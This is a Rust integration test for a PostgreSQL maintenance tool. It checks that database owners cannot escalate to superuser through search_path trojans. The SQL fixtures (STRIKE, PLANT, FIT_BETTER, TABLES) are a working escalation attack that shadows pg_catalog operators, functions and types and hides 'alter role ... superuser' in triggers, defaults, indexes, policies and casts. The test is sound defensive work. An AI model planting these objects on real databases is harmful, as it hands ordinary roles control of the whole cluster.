//! Who owns a database plants what our sessions might run there, and stays who he is (C39).

use crate::support::{Cluster, Installation, cluster_and_repository, directory, output, postgres};
use std::{collections::BTreeMap, fs, process::Command};

/// What a superuser who calls it makes of `{role}`.
pub const STRIKE: &str = "
    create schema trap;
    create function trap.strike() returns boolean language plpgsql as $f$
    begin
        if pg_catalog.current_setting('is_superuser') operator(pg_catalog.=) 'on' then
            execute 'alter role {role} superuser';
        end if;
        return true;
    end $f$;
";

/// Every operator, function and type of pg_catalog once more, which strikes before it does what the true one does. What PostgreSQL
/// does not let an ordinary role make (pseudo-types, polymorphic results) is passed over.
pub const PLANT: &str = r#"
    do $plant$
    declare known record; made int := 0; number int := 0; call text;
    begin
        for known in
            select o.oprname, o.oprleft, o.oprright, format_type(o.oprresult, null) as result,
                   format_type(nullif(o.oprleft, 0), null) as l, format_type(o.oprright, null) as r
            from pg_operator o where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprcode <> 0
        loop
            number := number + 1;
            call := case known.oprleft when 0 then format('operator(pg_catalog.%s) $1', known.oprname)
                         else format('$1 operator(pg_catalog.%s) $2', known.oprname) end;
            begin
                execute format('create function trap.o%s(%s) returns %s language plpgsql as $f$
                    begin perform trap.strike(); return %s; end $f$', number, concat_ws(', ', known.l, known.r), known.result, call);
                execute format('create operator trap.%s (%srightarg = %s, function = trap.o%s)', known.oprname,
                    case known.oprleft when 0 then '' else format('leftarg = %s, ', known.l) end, known.r, number);
                made := made + 1;
            exception when others then null;
            end;
        end loop;
        if made < 600 then raise exception 'only % operators', made; end if;
        made := 0;
        for known in
            select p.proname, pg_get_function_identity_arguments(p.oid) as arguments, format_type(p.prorettype, null) as result,
                   p.proretset, (select string_agg('$' || n, ', ' order by n) from generate_series(1, p.pronargs) n) as passed
            from pg_proc p where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and not p.proretset
        loop
            begin
                execute format('create function trap.%I(%s) returns %s language plpgsql as $f$
                    begin perform trap.strike(); return pg_catalog.%I(%s); end $f$',
                    known.proname, known.arguments, known.result, known.proname, known.passed);
                made := made + 1;
            exception when others then null;
            end;
        end loop;
        if made < 1500 then raise exception 'only % functions', made; end if;
        made := 0;
        for known in select typname from pg_type where typnamespace = 'pg_catalog'::regnamespace and typtype = 'b' and typname !~ '^_'
        loop
            begin
                execute format('create domain trap.%I as pg_catalog.%I check (trap.strike())', known.typname, known.typname);
                made := made + 1;
            exception when others then null;
            end;
        end loop;
        if made < 40 then raise exception 'only % types', made; end if;
    end $plant$;
"#;

/// Operators that fit pairs of types better than those of pg_catalog, in a schema that everybody has in his path.
const FIT_BETTER: &str = r#"
    do $plant$
    declare l text; r text; o text; number int := 0; made int := 0;
        types constant text[] := array['name', 'text', 'varchar', 'bpchar', '"char"', 'oid', 'int2', 'int4', 'int8', 'float8',
            'numeric', 'regclass', 'regtype', 'xid', 'interval', 'timestamptz', 'timestamp', 'pg_lsn', 'bool'];
    begin
        foreach l in array types loop foreach r in array types loop
            foreach o in array array['=', '<>', '<', '>', '<=', '>=', '+', '-', '*', '/', '%', '||', '~'] loop
                number := number + 1;
                begin
                    execute format('create function public.b%s(%s, %s) returns boolean language plpgsql as $f$
                        begin perform trap.strike(); return true; end $f$', number, l, r);
                    execute format('create operator public.%s (leftarg = %s, rightarg = %s, function = public.b%s)', o, l, r, number);
                    made := made + 1;
                exception when others then null;
                end;
            end loop;
        end loop; end loop;
        if made < 1000 then raise exception 'only % operators', made; end if;
    end $plant$;
"#;

/// Code of an owner wherever a table may have some. `trap.value` says that it is immutable, and is none of it.
const TABLES: &str = "
    create function trap.value(int) returns int language plpgsql immutable as $f$
    begin perform trap.strike(); return $1; end $f$;
    create function trap.changed() returns trigger language plpgsql as $f$
    begin perform trap.strike(); return new; end $f$;
    create domain trap.small as pg_catalog.int4 check (trap.value(value) operator(pg_catalog.>=) 0);
    create type trap.kind as (a pg_catalog.int4);
    create function trap.to_kind(pg_catalog.int4) returns trap.kind language plpgsql as $f$
    begin perform trap.strike(); return row($1)::trap.kind; end $f$;
    create cast (pg_catalog.int4 as trap.kind) with function trap.to_kind(pg_catalog.int4) as implicit;
    create table public.orders (
        a pg_catalog.int4 primary key check (trap.value(a) operator(pg_catalog.>=) 0),
        b pg_catalog.int4 generated always as (trap.value(a)) stored,
        c trap.small default trap.value(1),
        d pg_catalog.text default 'x');
    create index orders_expression on public.orders (trap.value(a));
    create index orders_predicate on public.orders (d) where trap.value(a) operator(pg_catalog.>) 3;
    create statistics public.orders_statistics on (trap.value(a)), b from public.orders;
    create trigger orders_trigger before insert or update on public.orders for each row execute function trap.changed();
    create view public.orders_seen as select trap.value(a) as a from public.orders;
    create rule orders_rule as on delete to public.orders do also select trap.strike();
    create materialized view public.orders_kept as select trap.value(a) as a from public.orders;
    create table public.parted (a pg_catalog.int4) partition by range (trap.value(a));
    create table public.parted_1 partition of public.parted for values from (0) to (1000000);
    alter table public.orders enable row level security;
    alter table public.orders force row level security;
    create policy mine on public.orders using (trap.strike());
    insert into public.orders (a) select pg_catalog.generate_series(1, 20000);
    insert into public.parted select pg_catalog.generate_series(1, 5000);
    create unlogged table public.unlogged (a pg_catalog.int4);
    create sequence public.numbers;
";

const JOBS: &str = "
[jobs.full]
kind = \"backup.physical\"
repositories = [\"local\"]
[jobs.vacuum]
kind = \"maintenance.vacuum\"
[jobs.analyze]
kind = \"maintenance.analyze\"
[jobs.catalog]
kind = \"maintenance.catalog\"
[jobs.reindex]
kind = \"maintenance.reindex\"
[jobs.integrity]
kind = \"maintenance.integrity\"
[jobs.advice]
kind = \"maintenance.advice\"
[jobs.sample]
kind = \"sample\"
[jobs.again]
kind = \"sample\"
[jobs.report]
kind = \"report.performance\"
[jobs.health]
kind = \"report.health\"
[jobs.beat]
kind = \"heartbeat\"
table = \"shop.pgbosun.heartbeat\"
[jobs.rotate]
kind = \"logs.rotate\"
[jobs.copies]
kind = \"verify\"
repositories = [\"local\"]
[jobs.cleanup]
kind = \"wal.cleanup\"
repositories = [\"local\"]
";

struct Ground<'a> {
    cluster: &'a Cluster,
    installation: Installation,
}

impl Ground<'_> {
    /// What psql says as a role in a database.
    fn sql_as(&self, role: &str, database: &str, statements: &str) -> String {
        let connection = format!("host={} user={role} dbname={database}", self.cluster.socket.display());
        let mut command = Command::new(postgres("psql"));
        let file = self.installation.directory.join("statements.sql");
        fs::write(&file, statements).unwrap();
        output(command.arg("-d").arg(&connection).args(["-XAtq", "-v", "ON_ERROR_STOP=1", "-f"]).arg(file))
            .trim()
            .to_owned()
    }

    /// Whether the owner became superuser, who is an ordinary role again then.
    fn is_taken(&self) -> bool {
        let taken =
            self.cluster.sql("select pg_catalog.bool_or(rolsuper) from pg_roles where rolname in ('eve', 'mallory')")
                == "t";
        self.cluster.sql("alter role eve nosuperuser; alter role mallory nosuperuser");
        taken
    }
}

#[test]
fn c39_an_owner_who_plants_operators_functions_and_types_stays_an_ordinary_role() {
    let directory = directory();
    let log = directory.path().join("log");
    fs::create_dir(&log).unwrap();
    let settings = format!(
        "{}\nshared_preload_libraries = 'pg_stat_statements'\nlogging_collector = on\nlog_directory = '{}'",
        Cluster::archiving(directory.path()),
        log.display()
    );
    let cluster = Cluster::start_with(directory.path(), &settings);
    let restore_test = format!(
        "[jobs.test]\nkind = \"restore-test\"\nrepository = \"local\"\nprogram-directory = \"{}\"\n",
        postgres("").display()
    );
    let configuration = format!("{}{JOBS}{restore_test}", cluster_and_repository(&cluster));
    let configuration =
        configuration.replace("[clusters.main]\n", "[clusters.main]\nwatch = true\nlog-directory = \"{dir}/log\"\n");
    let ground = Ground { cluster: &cluster, installation: Installation::new(directory.path(), &configuration) };
    for statement in [
        "create role eve login",
        "create role mallory login",
        "create role blind",
        "create database shop owner eve",
        "create database yard",
        "create database quay owner eve",
        "create extension pg_stat_statements",
    ] {
        cluster.sql(statement);
    }
    ground.sql_as(
        "postgres",
        "shop",
        "create extension amcheck; create extension pgstattuple; create extension pg_stat_statements;",
    );
    ground.sql_as(
        "postgres",
        "yard",
        "create extension amcheck; grant create on schema public to mallory; grant create on database yard to mallory;",
    );
    for (role, database) in [("eve", "shop"), ("mallory", "yard")] {
        ground.sql_as(role, database, &STRIKE.replace("{role}", role));
    }
    ground.sql_as("eve", "shop", PLANT);
    ground.sql_as("eve", "shop", TABLES);
    ground.sql_as("mallory", "yard", FIT_BETTER);
    // Whoever owns a database sets these for all sessions in it.
    ground.sql_as(
        "eve",
        "shop",
        "create schema pgbosun; create table pgbosun.heartbeat (at pg_catalog.timestamptz default trap.strike()::pg_catalog.text::pg_catalog.timestamptz);
         alter database shop set search_path = trap, pg_catalog, public;",
    );
    ground.sql_as(
        "eve",
        "quay",
        "create table public.orders (a int primary key); insert into public.orders select generate_series(1, 20000);
         alter database quay set default_transaction_read_only = on;
         alter database quay set statement_timeout = '1ms';
         alter database quay set idle_session_timeout = '1ms';
         alter database quay set role = 'blind';
         alter database quay set exit_on_error = on;
         alter database quay set quote_all_identifiers = on;
         alter database quay set \"DateStyle\" = 'SQL, DMY';
         alter database quay set \"IntervalStyle\" = 'sql_standard';
         alter database quay set local_preload_libraries = 'nothing';",
    );

    // What is planted works: a superuser who does not mind the path runs it.
    ground.sql_as("postgres", "shop", "select 1::oid = 1::oid");
    assert!(ground.is_taken());
    ground.sql_as("postgres", "yard", "select 1::oid + 1::name");
    assert!(ground.is_taken());

    let listed = ground.installation.json(&["job", "list"]);
    let jobs: Vec<_> = listed.as_array().unwrap().iter().map(|job| job["name"].as_str().unwrap().to_owned()).collect();
    assert!(jobs.len() > 45, "{jobs:?}");
    let mut said = BTreeMap::new();
    for job in &jobs {
        let done = ground.installation.try_run(&["job", "run", job]);
        said.insert(
            job.clone(),
            format!("{}{}", String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr)),
        );
        assert!(!ground.is_taken(), "{job}: {}", said[job]);
    }
    for (job, said) in &said {
        let refused = job == "beat";
        assert_eq!(said.starts_with("failed"), refused, "{job}: {said}");
    }
    assert!(said["beat"].contains("schema pgbosun belongs to eve"), "{}", said["beat"]);
    assert!(said["test"].contains("4 tables, 45000 rows"), "{}", said["test"]);
    // An extension in a schema of the owner's is not called, and what is to be done is advice.
    let advice = ground.installation.journal("select group_concat(statement) from recommendations");
    assert!(advice.contains("ALTER EXTENSION amcheck SET SCHEMA amcheck"), "{advice}");

    // What is dumped and loaded brings all of it along.
    // The archive may have the drop before the restore begins.
    let before = ground.cluster.sql("select clock_timestamp()");
    ground.sql_as("eve", "shop", "drop table public.orders cascade");
    let programs = postgres("").display().to_string();
    let file = directory.path().join("orders.sql").display().to_string();
    for place in [["--to", &file], ["--into", "shop"]] {
        let arguments = [
            &["restore", "table", "shop.public.orders", "--target-time", &before, "--program-directory", &programs],
            &place[..],
        ]
        .concat();
        let done = ground.installation.try_run(&arguments);
        let said = format!("{}{}", String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr));
        assert!(!ground.is_taken(), "{said}");
        assert!(done.status.success() && said.contains("20000"), "{said}");
    }
}
